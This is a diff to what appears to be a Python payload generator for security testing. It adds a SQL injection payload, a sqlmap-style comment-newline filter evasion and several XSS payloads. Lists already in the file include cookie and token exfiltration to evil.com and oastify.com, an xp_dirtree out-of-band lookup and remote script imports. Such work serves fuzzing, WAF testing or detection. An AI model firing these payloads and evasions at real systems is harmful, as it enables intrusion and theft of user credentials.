@@ -37,7 +37,7 @@ SQLI = [
     "(SELECT CHAR(113)+CHAR(106)+CHAR(122)+CHAR(118)+CHAR(113))", "1;DECLARE @q VARCHAR(99);SET @q='\\\\x.oastify.com\\a';EXEC master.dbo.xp_dirtree @q;--",
     "' OR 1 IN (SELECT @@version)-- -", "1 AND ORD(MID((SELECT IFNULL(CAST(schema_name AS NCHAR),0x20) FROM INFORMATION_SCHEMA.SCHEMATA LIMIT 0,1),1,1))>64",
     "name,(SELECT CASE WHEN (1=1) THEN name ELSE price END)", "(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a' THEN price ELSE name END)",
-    "id DESC,(SELECT SLEEP(5))", "1)) OR 1=1-- -", "' OR ''='", "1' OR '1'='1' LIMIT 0,1;#", "' AND 1=0 UNION SELECT NULL,table_name FROM information_schema.tables-- -",
+    "id DESC,(SELECT SLEEP(5))", "SLEEP(1) /*' or SLEEP(1) or '\" or SLEEP(1) or \"*/", "1)) OR 1=1-- -", "' OR ''='", "1' OR '1'='1' LIMIT 0,1;#", "' AND 1=0 UNION SELECT NULL,table_name FROM information_schema.tables-- -",
 ]
 
 SQL_KEYWORDS = frozenset("""SELECT UNION FROM WHERE AND OR ORDER BY SLEEP NULL ALL INFORMATION_SCHEMA TABLES GROUP CONCAT
@@ -78,6 +78,19 @@ def sql_alt_whitespace(p, rng):
         return None
     ws = rng.choice(["\t", "\n", "\r\n", "\x0b", "\x0c", "\n\t"])
     return body.replace(" ", ws) + tail
+
+
+def sql_comment_newline(p, rng):
+    """sqlmap space2hash / space2dash: a line comment plus newline stands for a space."""
+    body, tail = _split_tail(p)
+    if " " not in body:
+        return None
+    marker = rng.choice(["#", "--", "#" + rand_word(rng), "--" + rand_word(rng)])
+    return body.replace(" ", marker + "\n") + tail
+
+
+def rand_word(rng):
+    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randrange(3, 9)))
 
 
 def sql_versioned(p, rng):
@@ -125,7 +138,7 @@ def sql_scientific(p, rng):
 
 
 SQLI_EVASIONS = [("none", None, 30), ("mixed_case", sql_mixed_case, 10), ("sql_comment", sql_comment_space, 10),
-                 ("alt_whitespace", sql_alt_whitespace, 8), ("versioned_comment", sql_versioned, 6),
+                 ("alt_whitespace", sql_alt_whitespace, 8), ("comment_newline", sql_comment_newline, 4), ("versioned_comment", sql_versioned, 6),
                  ("symbol_operators", sql_symbols, 4), ("equal_to_like", sql_equal_like, 3), ("null_byte", sql_null_byte, 3),
                  ("no_space", sql_no_space, 4), ("scientific_notation", sql_scientific, 2)]
 
@@ -154,7 +167,9 @@ XSS = [
     "<style>@keyframes x{}</style><div style=\"animation-name:x\" onanimationstart=\"alert(1)\"></div>",
     "<script>fetch('//x.oastify.com/'+localStorage.getItem('token'))</script>", "<img src=x onerror=\"document.location='https://evil.com/?c='+document.cookie\">",
     "<svg onload=eval(location.hash.slice(1))>", "<iframe onload=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
-    "\"-confirm`1`-\"", "</title><script>alert(1)</script>", "<keygen autofocus onfocus=alert(1)>", "<img src=x onerror=import('//x55.is/x.js')>",
+    "\"-confirm`1`-\"", "</title><script>alert(1)</script>", "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
+    "<xss onafterscriptexecute=alert(1)><script>1</script>", "<a id=x tabindex=1 onfocusin=alert(1)></a>", "\"><iframe src=//x55.is/f></iframe>",
+    "<keygen autofocus onfocus=alert(1)>", "<img src=x onerror=import('//x55.is/x.js')>",
 ]
 
 
